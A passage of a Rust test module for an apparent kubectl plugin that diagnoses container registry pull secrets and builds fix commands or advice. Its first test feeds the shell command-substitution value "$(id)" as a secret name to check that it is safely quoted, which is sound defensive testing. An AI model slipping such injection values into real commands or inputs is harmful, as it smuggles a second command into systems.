        let health = secret_health("$(id)", None, "default", "team-a");
        assert_eq!(
            health.fix.unwrap().command.unwrap(),
            "kubectl regcred create '$(id)' -n team-a"
        );
    }

    /// A command never holds a placeholder: what cannot be pasted is advice.
    #[test]
    fn no_command_holds_a_placeholder() {
        let verdicts = [
            Verdict::IdentityTokenOnly {
                secret: "s".into(),
                key: "quay.io".into(),
            },
            Verdict::NoPullAccess {
                secret: "s".into(),
                key: "quay.io".into(),
                reason: String::new(),
            },
            Verdict::InvalidImage {
                reason: String::new(),
            },
        ];
        for verdict in &verdicts {
            let fix = fix(verdict, "quay.io/a/b:1", "deployment/web", "team-a").unwrap();
            assert_eq!(fix.command, None, "{verdict:?}");
        }
        for state in [None, Some(SecretState::Malformed("x".into()))] {
            let fix = secret_health("s", state.as_ref(), "default", "ns")
                .fix
                .unwrap();
            for word in ["SERVER", "USER", "REGISTRY"] {
                assert!(!fix.command.clone().unwrap_or_default().contains(word));
            }
        }
    }

    #[test]
    fn fixes_name_the_command() {
        let fix_for = |v: &Verdict| {
            fix(v, "quay.io/a/b:1", "deployment/web", "team-a")
                .unwrap()
                .command
                .unwrap()
        };
        assert_eq!(
            fix_for(&Verdict::NotAttached {
                secrets: vec!["quay".into()]
            }),
            "kubectl regcred attach quay deployment/web -n team-a"
        );
        assert_eq!(
            fix_for(&Verdict::NoCredential {
                evidence: String::new()
            }),
            "kubectl regcred create regcred --server quay.io -n team-a --attach deployment/web"
        );
        assert!(
            fix(
                &Verdict::Ok {
                    secret: "a".into(),
                    key: "b".into()
                },
                "x",
                "y",
                "z"
            )
            .is_none()
        );
    }

    #[test]
    fn a_failing_credential_of_a_running_image_fails_the_next_pull() {
        let refused = Verdict::BadCredentials {
            secret: "regcred".into(),
            key: "quay.io".into(),
            reason: "401".into(),
        };
        let running = vec!["web-1".to_string()];
        let verdict = on_cached_image(refused.clone(), &running);
        assert_eq!(verdict.label(), "NEXT-PULL-FAILS");
        assert!(verdict.is_problem());
        assert_eq!(verdict.cause(), &refused);
        assert!(verdict.detail().contains("web-1"), "{}", verdict.detail());
        // Its fix is the credential's.
        assert_eq!(
            fix(&verdict, "quay.io/a:1", "deployment/web", "ns"),
            fix(&refused, "quay.io/a:1", "deployment/web", "ns")
        );
        // Nothing runs it, or the credential is fine: the verdict stays.
        assert_eq!(on_cached_image(refused.clone(), &[]), refused);
        let ok = Verdict::Ok {
            secret: "regcred".into(),
            key: "quay.io".into(),
        };
        assert_eq!(on_cached_image(ok.clone(), &running), ok);
    }

    #[test]
    fn node_providers_serve_what_no_secret_does() {
        let provider = |name: &str, missing: &[&str]| ProviderMatch {
            name: name.into(),
            missing_annotations: missing.iter().map(|k| k.to_string()).collect(),
        };
        let ok = Verdict::Ok {
            secret: "regcred".into(),
            key: "quay.io".into(),
        };
        // A Secret that matches is tried first: its verdict stands.
        assert_eq!(
            with_providers(ok.clone(), &[provider("ecr", &[])], "default"),
            ok
        );
        let verdict = with_providers(Verdict::Anonymous, &[provider("ecr", &[])], "default");
        assert_eq!(verdict.label(), "NODE-PROVIDER");
        assert!(!verdict.is_problem());
        // A token provider the kubelet would not call: the pull has nothing.
        let verdict = with_providers(
            Verdict::Anonymous,
            &[provider("acr", &["azure.workload.identity/client-id"])],
            "builder",
        );
        assert_eq!(verdict.label(), "SA-NOT-ANNOTATED");
        assert!(verdict.is_problem());
        let advice = fix(&verdict, "team.azurecr.io/app:1", "deployment/web", "ns")
            .and_then(|f| f.advice)
            .unwrap();
        assert!(
            advice.contains("kubectl annotate serviceaccount builder azure.workload.identity/client-id=VALUE -n ns"),
            "{advice}"
        );
        // One provider called is enough.
        let verdict = with_providers(
            Verdict::Anonymous,
            &[provider("acr", &["k"]), provider("other", &[])],
            "default",
        );
        assert_eq!(
            verdict,
            Verdict::NodeProvider {
                providers: vec!["other".into()]
            }
        );
        assert_eq!(
            with_providers(Verdict::Anonymous, &[], "default"),
            Verdict::Anonymous
        );
    }
}
